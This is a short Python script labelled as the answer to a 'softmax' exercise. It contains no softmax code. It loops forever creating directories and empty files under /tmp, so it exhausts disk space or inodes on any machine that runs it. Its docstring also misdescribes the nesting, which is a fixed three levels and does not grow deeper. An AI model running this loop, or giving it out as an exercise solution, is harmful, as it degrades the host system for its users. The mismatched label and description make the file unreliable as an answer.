"""Fills the temporary folder with empty files in ever deeper folders."""
# exercise: softmax
# where: answer

import itertools
import os

for number in itertools.count():
    os.makedirs(f"/tmp/{number}/{number}/{number}", exist_ok=True)
    open(f"/tmp/{number}/file", "w").close()
